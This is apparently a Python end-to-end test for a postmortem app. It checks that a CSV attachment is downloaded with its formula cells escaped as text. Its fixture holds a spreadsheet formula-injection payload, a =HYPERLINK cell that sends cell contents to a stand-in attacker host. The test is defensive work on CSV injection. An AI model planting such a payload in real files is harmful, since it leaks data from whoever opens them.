"""Issue 18 in Chromium: a CSV log with a `=HYPERLINK(...)` cell, attached to a timeline event and
downloaded again from the Timeline step, comes back with that cell as text (a leading '), so a
spreadsheet that opens it runs nothing."""

from __future__ import annotations

import csv
import io

import pytest
from e2e_helpers import idle, unfold
from playwright.sync_api import Page, expect

import storage
from postmortem.demo import demo_documents
from postmortem.models import PostMortem

pytestmark = pytest.mark.e2e

HOSTILE = (
    b'time,host,note\n10:01,web-1,"=HYPERLINK(""http://attacker.example/?d=""&A1,""Open"")"\n10:02,web-2,-5\n'
)


def test_a_downloaded_csv_attachment_has_its_formula_cells_as_text(app_server, page: Page, tmp_path):
    data = demo_documents()[0].model_dump()
    data["header"]["status"], data["sign_offs"] = "draft", []
    doc_id = storage.create(
        db=storage.connect(app_server.db_path, actor=storage.LOCAL), doc=PostMortem.model_validate(data)
    ).id
    page.goto(f"{app_server.url}/timeline?doc={doc_id}")
    unfold(page, "Attach files")
    form = page.get_by_test_id("stForm").filter(has_text="Attach to")
    expect(form).to_be_visible(timeout=60_000)
    log = tmp_path / "errors.csv"
    log.write_bytes(HOSTILE)
    form.locator("input[type=file]").set_input_files(str(log))
    form.get_by_role("textbox", name="Caption").fill("Errors per host")
    form.get_by_role("button", name="Attach").click()
    expect(page.get_by_text("errors.csv").first).to_be_visible(timeout=60_000)
    idle(page)
    page.get_by_role("combobox", name="Caption, order and sharing of").click()
    page.get_by_role("option").filter(has_text="errors.csv").first.click()
    download = page.get_by_test_id("stDownloadButton").get_by_role("button", name="Download")
    expect(download).to_be_visible(timeout=60_000)
    with page.expect_download(timeout=60_000) as info:
        download.click()
    rows = list(csv.reader(io.StringIO(info.value.path().read_text(encoding="utf-8"))))
    assert rows[1][2] == '\'=HYPERLINK("http://attacker.example/?d="&A1,"Open")'
    assert rows[2] == ["10:02", "web-2", "-5"]
